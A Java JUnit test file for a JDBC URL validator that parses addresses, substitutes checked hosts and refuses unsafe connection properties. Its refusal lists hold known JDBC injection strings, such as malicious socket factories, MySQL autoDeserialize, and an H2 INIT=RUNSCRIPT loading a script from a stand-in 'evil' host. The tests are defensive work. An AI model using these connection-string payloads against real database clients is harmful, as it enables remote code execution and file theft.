package io.hmsbridge.plugins.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {

    @Test
    void anAddressIsTakenApartAndItsPropertiesWithIt() {
        var url = JdbcUrl.of("jdbc:postgresql://db.example:5433/gis?sslmode=verify-full&currentSchema=a");

        assertThat(url.dialect()).isEqualTo(Dialect.POSTGRESQL);
        assertThat(url.host()).isEqualTo("db.example");
        assertThat(url.port()).isEqualTo(5433);
        assertThat(url.properties()).isEqualTo(Map.of("sslmode", "verify-full", "currentSchema", "a"));
        assertThat(url).hasToString("jdbc:postgresql://db.example:5433/gis");
    }

    @Test
    void theCheckedAddressTakesTheHostsPlace() {
        assertThat(JdbcUrl.of("jdbc:oracle:thin:@//ora.example:1522/AUDIT").toDriver("10.1.2.3"))
                .isEqualTo("jdbc:oracle:thin:@//10.1.2.3:1522/AUDIT");
        assertThat(JdbcUrl.of("jdbc:oracle:thin:@ora.example:1521:AUDIT").toDriver("::1"))
                .isEqualTo("jdbc:oracle:thin:@[::1]:1521:AUDIT");
        assertThat(JdbcUrl.of("jdbc:sqlserver://sql.example:1433;databaseName=hr").toDriver("10.1.2.3"))
                .isEqualTo("jdbc:sqlserver://10.1.2.3:1433");
        assertThat(JdbcUrl.of("jdbc:h2:tcp://h2.example/~/audit").toDriver("10.1.2.3"))
                .isEqualTo("jdbc:h2:tcp://10.1.2.3:9092/~/audit");
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:h2:mem:x", "jdbc:h2:file:/var/lib/x;MODE=Oracle", "jdbc:h2:./data/x",
        "jdbc:sqlite:/tmp/x.db", "jdbc:h2:C:\\data\\x"})
    void aDatabaseInThisProcessNeedsNoHost(String url) {
        assertThat(JdbcUrl.of(url).isEmbedded()).isTrue();
    }

    @Test
    void aClusterOfPostgresIsLeftToItsDriver() {
        assertThat(JdbcUrl.of("jdbc:postgresql://a:5432,b:5433/x?targetServerType=primary").toDriver())
                .isEqualTo("jdbc:postgresql://a:5432,b:5433/x");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:postgresql://h/d?socketFactory=evil.Factory", "jdbc:postgresql://h/d?socketFactoryArg=x",
        "jdbc:postgresql://h/d?sslfactory=evil.Factory", "jdbc:postgresql://h/d?preferQueryMode=simple",
        "jdbc:postgresql://h/d?sslhostnameverifier=x", "jdbc:postgresql://h/d?authenticationPluginClassName=x",
        "jdbc:postgresql://h/d?xmlFactoryFactory=x", "jdbc:postgresql://h/d?jaasApplicationName=x",
        "jdbc:postgresql://h/d?loggerFile=/tmp/x", "jdbc:postgresql://h/d?options=-c%20x=y",
        "jdbc:postgresql://h/d?user=x", "jdbc:postgresql://h/d?password=x", "jdbc:postgresql://h/d?service=x",
        "jdbc:postgresql://h/d?sslmode=x&socket%46actory=evil", "jdbc:postgresql://h/d?SocketFactory=evil",
        "jdbc:postgresql://h/d?sslmode=x;socketFactory=evil", "jdbc:postgresql://h/d?=x",
        "jdbc:mariadb://h/d?allowLocalInfile=true", "jdbc:mariadb://h/d?socketFactory=evil",
        "jdbc:mariadb://h/d?credentialType=x", "jdbc:mariadb://h/d?localSocket=/x",
        "jdbc:mysql://h/d?autoDeserialize=true", "jdbc:mysql://h/d?queryInterceptors=evil",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbc:h2:mem:x;init=CREATE ALIAS",
        "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3", "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
        "jdbc:h2:mem:x;MODE=Oracle;JAVA_OBJECT_SERIALIZER='x'", "jdbc:oracle:thin:@//h/s?oracle.net.tns_admin=/x",
        "jdbc:sqlserver://h:1433;socketFactoryClass=evil", "jdbc:db2://h:50000/d:clientRerouteServerListJNDIName=x;"})
    void aPropertyThatIsNotOnTheListIsRefused(String url) {
        assertThatIllegalArgumentException().isThrownBy(() -> JdbcUrl.of(url))
                .withMessageStartingWith("'url' ").withMessageNotContaining("evil");
    }

    @ParameterizedTest
    @ValueSource(strings = {"postgresql://h/d", "http://h/d", "jdbc:postgresql:d", "jdbc:postgresql://u:p@h/d",
        "jdbc:postgresql://h:0/d", "jdbc:postgresql://h:99999/d", "jdbc:postgresql://h\r\n/d",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=h)))", "jdbc:oracle:thin:@tnsname", "jdbc:oracle:oci:@x",
        "jdbc:sybase:Tds:h:5000", "jdbc:foo://h/d", "jdbc:h2:zip:x!/y", "jdbc:h2:tcp:x",
        "jdbc:oracle:thin:@ldap://h/cn=x"})
    void anAddressWhoseHostCannotBeCheckedIsRefused(String url) {
        assertThatIllegalArgumentException().isThrownBy(() -> JdbcUrl.of(url)).withMessageStartingWith("'url' ");
    }
}
